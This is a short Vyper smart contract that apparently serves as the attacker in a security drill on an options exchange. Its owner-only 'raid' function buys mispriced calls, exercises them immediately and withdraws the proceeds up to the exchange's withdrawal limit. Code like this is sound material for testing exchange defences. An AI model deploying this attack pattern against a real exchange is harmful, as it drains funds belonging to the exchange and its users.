# pragma version 0.4.3
# pragma evm-version cancun
"""
@title The attacker of a drill
@notice Buys mispriced calls, exercises them at once and takes the money out as far as the withdrawal limit allows.
"""

interface Token:
    def approve(spender: address, amount: uint256) -> bool: nonpayable
    def balanceOf(account: address) -> uint256: view

interface Exchange:
    def token() -> address: view
    def deposit(amount: uint256): nonpayable
    def buy(market: bytes32, quantity: uint256, maxPremium: uint256): nonpayable
    def exercise(market: bytes32, quantity: uint256): nonpayable
    def withdraw(amount: uint256): nonpayable

exchange: public(immutable(address))
owner: public(immutable(address))


@deploy
def __init__(exchange_: address):
    exchange = exchange_
    owner = msg.sender


@external
def enter():
    token: address = staticcall Exchange(exchange).token()
    capital: uint256 = staticcall Token(token).balanceOf(self)
    extcall Token(token).approve(exchange, capital)
    extcall Exchange(exchange).deposit(capital)


@external
def raid(market: bytes32, quantity: uint256, maxPremium: uint256, withdrawal: uint256):
    assert msg.sender == owner, "only the owner raids"
    extcall Exchange(exchange).buy(market, quantity, maxPremium)
    extcall Exchange(exchange).exercise(market, quantity)
    if withdrawal > 0:
        extcall Exchange(exchange).withdraw(withdrawal)


@external
def leave(withdrawal: uint256):
    assert msg.sender == owner, "only the owner leaves"
    extcall Exchange(exchange).withdraw(withdrawal)
